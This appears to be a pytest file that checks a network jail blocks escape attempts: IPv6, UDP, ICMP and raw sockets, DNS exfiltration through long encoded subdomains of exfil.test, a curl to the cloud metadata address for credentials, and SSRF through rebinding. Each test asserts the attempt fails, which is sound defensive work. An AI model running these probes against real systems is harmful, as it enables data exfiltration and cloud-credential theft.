"""Escape probes below HTTP: other protocols, other address families, other destinations than the proxy.

Each test makes one `boundary run` of tests/escape/probe.py, asserts from its JSON output that every attempt
failed, then that nothing reached any host-side witness (tests/escape/conftest.py).
"""

from __future__ import annotations

import ipaddress
import shlex

import pytest

from tests.e2e.conftest import Jailer
from tests.escape.conftest import (
    OUTSIDE,
    OUTSIDE6,
    InstallTripwire,
    Witnesses,
    probe_argv,
    run_probe,
    run_with_host_file,
)
from tests.support.tripwire import METADATA, OVERSIZED_DNS

CURL = ["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}\\n"]
SYNTHETIC = ipaddress.ip_network("198.18.0.0/15")
# A connection attempt got somewhere if it was answered, or accepted at all and then closed.
REACHED = {"reply", "closed", "ok", "answer"}


def _probes(*groups: list[str]) -> list[str]:
    args: list[str] = []
    for group in groups:
        args += [*group, "+"]
    return args[:-1]


def test_ipv6_tcp_reaches_nothing(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: the proxy redirect is IPv4-only, so connect over IPv6: to a global address, to the host's own
    global IPv6 address and to ::1, where host services listen. The jail has no IPv6 route and drops IPv6."""
    targets = [(OUTSIDE6, 443), ("::1", witnesses.tcp["::1"].port)]
    if witnesses.host6:
        targets.append((witnesses.host6, witnesses.tcp[witnesses.host6].port))
    probe = run_probe(jail, *_probes(*(["tcp", host, str(port)] for host, port in targets)))
    assert len(probe.results) == len(targets), probe.run.stderr
    assert [r["result"] for r in probe.results if r["result"] in REACHED] == [], probe.results
    witnesses.assert_nothing_escaped()


def test_ipv6_udp_reaches_nothing(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: UDP over IPv6 (including to port 53, which the IPv4 rules send to the fake DNS) to a global
    address, to the host's ::1 and to its own global address."""
    targets = [(OUTSIDE6, 443), (OUTSIDE6, 53), ("::1", witnesses.udp["::1"].port)]
    if witnesses.host6:
        targets.append((witnesses.host6, witnesses.udp[witnesses.host6].port))
    probe = run_probe(jail, *_probes(*(["udp", host, str(port)] for host, port in targets)))
    assert len(probe.results) == len(targets), probe.run.stderr
    assert [r for r in probe.results if r["result"] == "reply"] == []
    witnesses.assert_nothing_escaped()


def test_udp_to_any_port_but_the_fake_dns_is_dropped(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: UDP is not proxied, so send datagrams out directly: QUIC (443), NTP, WireGuard, mDNS, to an
    outside address, to the host's loopback and to the host's own address where UDP canaries listen."""
    targets = [(OUTSIDE, port) for port in (443, 123, 51820, 5353)]
    targets += [(host, udp.port) for host, udp in witnesses.udp.items() if ":" not in host]
    probe = run_probe(jail, *_probes(*(["udp", host, str(port)] for host, port in targets)))
    assert len(probe.results) == len(targets), probe.run.stderr
    assert [r for r in probe.results if r["result"] == "reply"] == []
    witnesses.assert_nothing_escaped()


def test_icmp_and_raw_sockets_are_refused(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: tunnel out over ICMP (ping sockets, SOCK_DGRAM/IPPROTO_ICMP, and raw sockets), or build packets
    by hand with raw IPv4/IPv6 and packet sockets, which no nft redirect would ever see."""
    hosts = [OUTSIDE, "127.0.0.1", *([witnesses.host4] if witnesses.host4 else [])]
    probe = run_probe(jail, *_probes(*(["icmp", host] for host in hosts), ["raw"]))
    *icmp, raw = probe.results
    assert len(icmp) == len(hosts), probe.run.stderr
    assert [r for r in icmp if r["result"] != "failed"] == []
    assert raw["result"] == "failed", raw
    witnesses.assert_nothing_escaped()


@pytest.mark.parametrize("proto", ["udp", "tcp"])
def test_dns_to_an_outside_server_is_answered_only_by_the_fake_dns(
    jail: Jailer, witnesses: Witnesses, proto: str
) -> None:
    """Attack: ignore resolv.conf and ask an outside resolver directly (over UDP or TCP), hoping for real
    addresses. Every port-53 packet goes to the fake DNS: the answer is synthetic and nothing leaves."""
    servers = [OUTSIDE, "203.0.113.53"]
    probe = run_probe(jail, *_probes(*(["dns", server, proto, "example.com", "A"] for server in servers)))
    assert len(probe.results) == len(servers), probe.run.stderr
    for result in probe.results:
        assert result["result"] == "answer", result
        assert result["answers"], result
        assert all(ipaddress.ip_address(a) in SYNTHETIC for a in result["answers"]), result
    witnesses.assert_nothing_escaped()


def test_dns_exfiltration_by_long_subdomains_goes_nowhere(
    jail: Jailer, witnesses: Witnesses, tripwire: InstallTripwire
) -> None:
    """Attack: smuggle data out in query names (`<63 bytes>.<63 bytes>.<63 bytes>.exfil.test`) through the
    jail's resolver and straight to an outside one, as A, AAAA and TXT over UDP and TCP, then make the proxy
    look the name up by requesting it. The fake DNS answers locally and the proxy never resolves a denied
    name: no oversized DNS packet leaves the host (tripwire), nothing reaches the witnesses."""
    wire = tripwire(OVERSIZED_DNS)
    secret = "73656372657420646174612066726f6d20746865206167656e74".ljust(63, "0")
    name = f"{secret}.{secret}.{secret}.exfil.test"
    queries = [
        ["dns", server, proto, name, qtype]
        for server in ("127.0.0.1", OUTSIDE)
        for proto in ("udp", "tcp")
        for qtype in ("A", "AAAA", "TXT")
    ]
    probe = run_probe(jail, *_probes(*queries))
    assert len(probe.results) == len(queries), probe.run.stderr
    for query, result in zip(queries, probe.results, strict=True):
        assert result["result"] == "answer", (query, result)
        if query[-1] == "A":
            assert all(ipaddress.ip_address(a) in SYNTHETIC for a in result["answers"]), result
        else:
            assert result["answers"] == [], result
    fetch = run_probe(jail, command=[*CURL, f"http://{name}/"])
    assert fetch.run.stdout.strip() == "403", fetch.run.stderr
    assert [(line["decision"], line["host"]) for line in fetch.run.audit] == [("deny", name)]
    assert wire.hits() == 0
    witnesses.assert_nothing_escaped()


def test_host_loopback_services_are_out_of_reach(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: reach a service on the host's 127.0.0.1:PORT (databases, dev servers, agents' local APIs). In the
    jail 127.0.0.1 is the jail's own loopback: the connection is refused until the workload listens on that
    port itself, and then it reaches only its own listener."""
    port = str(witnesses.tcp["127.0.0.1"].port)
    probe = run_probe(
        jail,
        *_probes(
            ["loopback", port],
            ["tcp", "127.0.0.2", port],
            ["tcp", "::1", str(witnesses.tcp["::1"].port)],
            ["udp", "127.0.0.1", str(witnesses.udp["127.0.0.1"].port)],
        ),
    )
    loopback, other_lo, lo6, udp = probe.results
    assert loopback["before"]["result"] == "ECONNREFUSED", loopback
    assert loopback["own_listener"] == "jail's own loopback\n", loopback
    assert other_lo["result"] == "ECONNREFUSED", other_lo
    assert lo6["result"] not in REACHED, lo6
    assert udp["result"] != "reply", udp
    witnesses.assert_nothing_escaped()


def test_the_hosts_own_address_is_out_of_reach(jail: Jailer, witnesses: Witnesses) -> None:
    """Attack: services bound to the host's own (non-loopback) address, over raw TCP, HTTP and UDP. The TCP
    attempts meet the proxy, which denies an IP literal without dialling; UDP is dropped."""
    if witnesses.host4 is None:
        pytest.skip("this host has no non-loopback IPv4 address")
    host, port = witnesses.host4, witnesses.tcp[witnesses.host4].port
    probe = run_probe(
        jail,
        *_probes(
            ["tcp", host, str(port), "SSH-2.0-escape"],
            ["tcp", host, str(port), f"GET / HTTP/1.1\\r\\nHost: {host}:{port}\\r\\nConnection: close\\r\\n"],
            ["udp", host, str(witnesses.udp[host].port)],
        ),
    )
    raw, http, udp = probe.results
    assert raw["result"] not in {"reply", "ok"}, raw
    assert http["result"] != "ok" and not http.get("data", "").startswith("HTTP/1.1 2"), http
    assert udp["result"] != "reply", udp
    assert {line["decision"] for line in probe.run.audit} == {"deny"}, probe.run.audit
    witnesses.assert_nothing_escaped()


def test_the_metadata_address_is_out_of_reach(jail: Jailer, witnesses: Witnesses, tripwire: InstallTripwire) -> None:
    """Attack: read cloud credentials from the metadata service at 169.254.169.254 (HTTP and raw TCP). An IP
    literal is never a name the policy allows; the tripwire rejects and counts any packet that would leave."""
    wire = tripwire(METADATA)
    curl = shlex.join([*CURL, "http://169.254.169.254/latest/meta-data/"])
    raw = shlex.join(probe_argv("tcp", "169.254.169.254", "80", "GET /latest/meta-data/ HTTP/1.0\\r\\n"))
    probe = run_probe(jail, command=["sh", "-c", f"{curl}; {raw}"])
    status = probe.run.stdout.splitlines()[0]
    assert status == "403", probe.run.stdout + probe.run.stderr
    [raw_result] = probe.results
    assert raw_result["result"] in {"reply", "closed"}, raw_result  # the proxy took the connection...
    assert raw_result.get("data", "").startswith("HTTP/1.1 403"), raw_result  # ...and answered it itself
    assert {(line["decision"], line["reason"]) for line in probe.run.audit} == {("deny", "ip-literal")}
    assert wire.hits() == 0
    witnesses.assert_nothing_escaped()


SSRF_POLICY = """\
version: 1
allow:
  - domain: meta.test
  - domain: hostlo.test
    ports: [{lo_port}]
  - domain: hostip.test
    ports: [{host_port}]
"""


@pytest.mark.parametrize("target", ["meta.test", "hostlo.test", "hostip.test"])
def test_an_allowed_name_that_resolves_to_an_internal_address_is_not_dialled(
    jail: Jailer, witnesses: Witnesses, tripwire: InstallTripwire, target: str
) -> None:
    """Attack (SSRF through an allowed name): the policy allows a name, and the host's resolver (here the
    host's /etc/hosts, as DNS rebinding would) maps it to the metadata address, to the host's loopback or to
    the host's own address, where services listen. The proxy resolves once, classifies the address and
    refuses internal ones: the request fails, nothing arrives."""
    wire = tripwire(METADATA)
    host4 = witnesses.host4 or "127.0.0.1"
    lo_port, host_port = witnesses.tcp["127.0.0.1"].port, witnesses.tcp[host4].port
    hosts = f"169.254.169.254 meta.test\n127.0.0.1 hostlo.test\n{host4} hostip.test\n"
    url = {
        "meta.test": "http://meta.test/latest/meta-data/",
        "hostlo.test": f"http://hostlo.test:{lo_port}/",
        "hostip.test": f"http://hostip.test:{host_port}/",
    }[target]
    run = run_with_host_file(jail, hosts, [*CURL, url], policy=SSRF_POLICY.format(lo_port=lo_port, host_port=host_port))
    assert run.stdout.strip() not in {"200", ""}, run.stdout + run.stderr
    [line] = run.audit
    assert (line["host"], line["decision"]) == (target, "deny"), line
    assert wire.hits() == 0
    witnesses.assert_nothing_escaped()
